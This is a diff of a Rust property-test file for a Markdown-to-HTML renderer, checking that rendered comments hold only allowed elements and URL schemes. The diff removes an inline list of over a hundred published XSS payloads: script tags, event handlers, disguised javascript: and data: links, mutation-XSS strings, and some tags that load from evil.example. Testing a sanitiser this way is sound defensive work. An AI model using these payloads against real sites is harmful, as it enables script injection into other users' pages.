@@ -1,28 +1,26 @@
 //! Whatever is typed, only harmless HTML comes out: held against a real HTML parser.
 
-use std::collections::{HashMap, HashSet};
-
 use afterword::markup::{Rules, plain, render};
 use proptest::collection::vec;
 use proptest::prelude::*;
 use proptest::sample::select;
-use scraper::{ElementRef, Html, Node};
-use url::Url;
+use scraper::Html;
+
+use crate::support::harmless::{Images, faults};
+use crate::support::vectors;
 
 const TEXT: Rules = Rules { images: false };
 const TEXT_AND_IMAGES: Rules = Rules { images: true };
 
-#[rustfmt::skip]
-const ELEMENTS: [&str; 19] = [
-    "a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "strong", "table",
-    "tbody", "td", "th", "thead", "tr", "ul",
-];
-
 fn assert_harmless(markdown: &str) {
     for rules in [TEXT, TEXT_AND_IMAGES] {
         let html = render(markdown, &rules).html;
-        assert_eq!(faults(&html, &rules), [""; 0], "{markdown:?} gave {html}");
-        assert_eq!(cleaned(&html), html, "{markdown:?}");
+        let images = if rules.images {
+            Images::Shown
+        } else {
+            Images::Linked
+        };
+        assert_eq!(faults(&html, images), [""; 0], "{markdown:?} gave {html}");
     }
 }
 
@@ -50,86 +48,6 @@ fn assert_consistent(markdown: &str) {
     );
     let harmless = |c: char| c == '\n' || c == '\t' || !c.is_control();
     assert!(plain.chars().all(harmless), "{markdown:?} gave {plain:?}");
-}
-
-/// All that is wrong with a comment's HTML, by lists that are written down here once more.
-fn faults(html: &str, rules: &Rules) -> Vec<String> {
-    let document = Html::parse_fragment(html);
-    let mut faults = Vec::new();
-    if document.root_element().inner_html() != html {
-        faults.push("a browser reads it as something else".to_owned());
-    }
-    for node in document.root_element().descendants().skip(1) {
-        match (node.value(), ElementRef::wrap(node)) {
-            (Node::Text(_), _) => {}
-            (_, Some(element)) if is_harmless(element, rules) => {}
-            (other, _) => faults.push(format!("{other:?}")),
-        }
-    }
-    faults
-}
-
-fn is_harmless(element: ElementRef<'_>, rules: &Rules) -> bool {
-    let name = element.value().name();
-    let mut above = element.ancestors().filter_map(ElementRef::wrap);
-    let known = ELEMENTS.contains(&name) || (name == "img" && rules.images);
-    let marked = name != "a"
-        || element.attr("rel").is_some() && !above.any(|parent| parent.value().name() == "a");
-    known
-        && marked
-        && element
-            .value()
-            .attrs()
-            .all(|(key, value)| is_allowed(name, key, value))
-}
-
-fn is_allowed(element: &str, attribute: &str, value: &str) -> bool {
-    match (element, attribute) {
-        ("a", "href") => leads_to(value, &["http", "https", "mailto"]),
-        ("a", "rel") => value == "nofollow ugc noopener",
-        ("a" | "img", "title") | ("img", "alt") => true,
-        ("img", "src") => leads_to(value, &["http", "https"]),
-        ("img", "loading") => value == "lazy",
-        ("img", "referrerpolicy") => value == "no-referrer",
-        ("code", "class") => value.strip_prefix("language-").is_some_and(|language| {
-            let in_names = |c: char| c.is_ascii_alphanumeric() || "_+#-".contains(c);
-            !language.is_empty() && language.chars().all(in_names)
-        }),
-        ("ol", "start") => value.parse::<u32>().is_ok(),
-        ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
-        _ => false,
-    }
-}
-
-fn leads_to(address: &str, schemes: &[&str]) -> bool {
-    Url::parse(address).is_ok_and(|url| {
-        schemes.contains(&url.scheme()) && url.username().is_empty() && url.password().is_none()
-    })
-}
-
-/// What ammonia leaves of it: the same, or its second reading differs from its first (mutation).
-fn cleaned(html: &str) -> String {
-    let on = |names: &[&'static str]| names.iter().copied().collect::<HashSet<_>>();
-    let mut elements = on(&ELEMENTS);
-    elements.insert("img");
-    ammonia::Builder::new()
-        .tags(elements)
-        .generic_attributes(HashSet::new())
-        .tag_attributes(HashMap::from([
-            ("a", on(&["href", "title"])),
-            ("code", on(&["class"])),
-            (
-                "img",
-                on(&["src", "alt", "title", "loading", "referrerpolicy"]),
-            ),
-            ("ol", on(&["start"])),
-            ("td", on(&["align"])),
-            ("th", on(&["align"])),
-        ]))
-        .url_schemes(on(&["http", "https", "mailto"]))
-        .link_rel(Some("nofollow ugc noopener"))
-        .clean(html)
-        .to_string()
 }
 
 fn text_of(html: &str) -> String {
@@ -256,9 +174,9 @@ proptest! {
 
 #[test]
 fn published_attacks_give_harmless_html() {
-    for attack in ATTACKS {
-        assert_harmless(attack);
-        assert_consistent(attack);
+    for attack in vectors().into_iter().map(|vector| vector.text) {
+        assert_harmless(&attack);
+        assert_consistent(&attack);
         // Quotes, list items, cells and emphasis are where parsers had their gaps.
         let line = attack.replace('\n', " ");
         assert_harmless(&format!("> {line}\n\n- a\n- {line}"));
@@ -279,137 +197,3 @@ fn bombs_of_nesting_give_harmless_html_and_no_overflow() {
         }
     }
 }
-
-/// Of each class that has been published, in the order in which they are met on the way from
-/// Markdown to a page.
-#[rustfmt::skip]
-const ATTACKS: &[&str] = &[
-    // raw elements and handlers
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\n>alert(1)</script\n>",
-    "<script/xss src=//evil.example>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x:x onerror=alert(1)//",
-    "<img \"\"\"><script>alert(1)</script>\">",
-    "<svg/onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=9>x</text></a></svg>",
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<x onclick=alert(1)>click</x>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=javascript&colon;alert(1)>x</a>",
-    "<a\tonmouseover\t=\talert(1)>x",
-    "**<b onmouseover=alert(1)>x</b>**",
-    // schemes and their disguises
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
-    "[x](javascript&#58;alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](java&NewLine;script:alert(1))",
-    "[x](java&Tab;script:alert(1))",
-    "[x](\u{1}javascript:alert(1))",
-    "[x](&#1;javascript:alert(1))",
-    "[x](\u{a0}javascript:alert(1))",
-    "[x](java\0script:alert(1))",
-    "[x](java\\script:alert(1))",
-    "[x](javascript\\:alert(1))",
-    "[x](javascript://a.example/%0aalert(1))",
-    "[x](javascript:window.onerror=alert;throw%20document.cookie)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "[x](view-source:javascript:alert(1))",
-    "[x](feed:javascript:alert(1))",
-    "[x](jar:https://evil.example!/x)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://a.example/1)",
-    "[x](intent://a.example#Intent;scheme=javascript;end)",
-    "<javascript:alert(1)>",
-    "<javascript&colon;alert(1)>",
-    "<data:text/html,<script>alert(1)</script>>",
-    "[x]\n\n[x]: javascript:alert(1)",
-    "[x]: (javascript:alert(1))\n\n[x]",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "[x](https://user:javascript@evil.example)",
-    // ways out of attributes
-    "[x](https://a.example \"\\\" onclick=alert(1) \\\"\")",
-    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
-    "[x](<https://a.example/\"onclick=\"alert(1)>)",
-    "[x](https://a.example/'onclick='alert(1))",
-    "![\"onerror=\"alert(1)](https://a.example)",
-    "![x](https://a.example/x.png\"onerror=\"alert(1))",
-    "![`\"><script>alert(1)</script>`](https://a.example)",
-    "![![\"onerror=alert(1) x](https://a.example)](https://b.example)",
-    "https://a.example/\"onmouseover=alert(1)",
-    "https://a.example/'><script>alert(1)</script>",
-    "<https://a.example/\"onclick=alert(1)//>",
-    "<https://a.example/<script>alert(1)</script>>",
-    "<\"onclick=alert(1)\"@a.example>",
-    "[x](mailto:a@b.example\"onclick=alert(1))",
-    "[https://a.example](https://b.example/\"><img/src/onerror=alert(1)>)",
-    // ways out of code
-    "```\"><script>alert(1)</script>\nx\n```",
-    "``` x\" onclick=\"alert(1)\nx\n```",
-    "```x\n</code></pre><script>alert(1)</script>\n```",
-    "~~~ language-x class=y id=z\nx\n~~~",
-    "`</code><script>alert(1)</script>`",
-    "    </code></pre><script>alert(1)</script>",
-    // confusions of Markdown parsers
-    "[a <b](https://a.example) onclick=alert(1)>",
-    "[<img src=x onerror=alert(1)>](https://a.example)",
-    "[x](https://a.example/[y](https://b.example/onclick=alert(1)))",
-    "[![x](https://a.example \"`<p>`\")](https://b.example \"`</p><script>alert(1)</script>`\")",
-    "<b <script>alert(1)//</b>",
-    "<!--><script>alert(1)</script>-->",
-    "<!-- --!><script>alert(1)</script> -->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[><script>alert(1)</script>]]>",
-    "<?xml version=\"1.0\"?><script>alert(1)</script>",
-    "<!ENTITY x \"><script>alert(1)</script>\">",
-    "\\<script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;script&amp;gt;alert(1)",
-    "_[x_](https://a.example)**<script>**alert(1)",
-    "| <script> | </td><script>alert(1)</script> |\n|-|-|\n| `|` <svg/onload=alert(1)> | x |",
-    // mutation
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><annotation-xml encoding=\"text/html\"><style></math><img src onerror=alert(1)></style>",
-    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
-    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-    "<table><td><a href=\"</table><script>alert(1)</script>\">",
-    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
-    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
-    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
-    "<plaintext><script>alert(1)</script>",
-    // clobbering, style, frames and forms
-    "<a id=config name=config href=https://evil.example>x</a>",
-    "<form id=document><input name=cookie></form>",
-    "<p style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</p>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<base href=https://evil.example/>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
-    "<form action=https://evil.example><input type=password><button formaction=javascript:alert(1)>x</button></form>",
-    "# x {#id .class onclick=alert(1)}",
-    // encodings
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-    "<\0script>alert(1)</script>",
-    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\u{202e}<script>alert(1)</script>",
-    "<img src=`x` onerror=`alert(1)`>",
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</sCript/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
-];
